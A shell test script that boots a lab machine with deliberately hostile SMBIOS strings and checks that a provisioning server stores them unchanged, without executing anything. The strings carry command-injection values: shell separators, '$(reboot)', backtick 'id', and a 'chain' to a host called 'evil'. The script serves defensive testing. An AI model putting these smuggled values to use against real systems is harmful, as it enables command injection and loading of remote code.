#!/bin/sh
# SPDX-License-Identifier: MIT
# A machine whose SMBIOS strings are written as commands: it boots like any other, and they are only stored.
# Evidence: running in the journal, with the profile of the rule, and the strings unchanged in "requested".
set -eu
. "$(dirname "$0")/../lib/tap.sh"
. "$root/tests/lib/lab.sh"
lab_need

lab_server "$(lab_profile lab lab=idle)
rule { mac = \"52:54:00:*\" profile = \"lab\" }"
# shellcheck disable=SC2016 # the machine's strings, not expansions
lab_machine m -smbios 'type=1,manufacturer=Acme && echo #1 "quoted" || exit,product=${net0/mac} ; shell & a=b?c%0aexit,serial=x" || chain http://10.0.2.2/evil' -smbios 'type=3,asset=$(reboot)`id`'
lab_event ' requested ' 60 || { done_testing; }
session=$(lab_session ' requested ')
lab_event " running $session " 90 "the machine with hostile SMBIOS strings runs"
like "$(grep -ah " requested $session " "$lab_state"/journal/*.log)" \
	'product=%24%7Bnet0/mac%7D%20%3B%20shell%20%26%20a%3Db%3Fc%250aexit' "the product is stored unchanged"
lab_stop m
done_testing
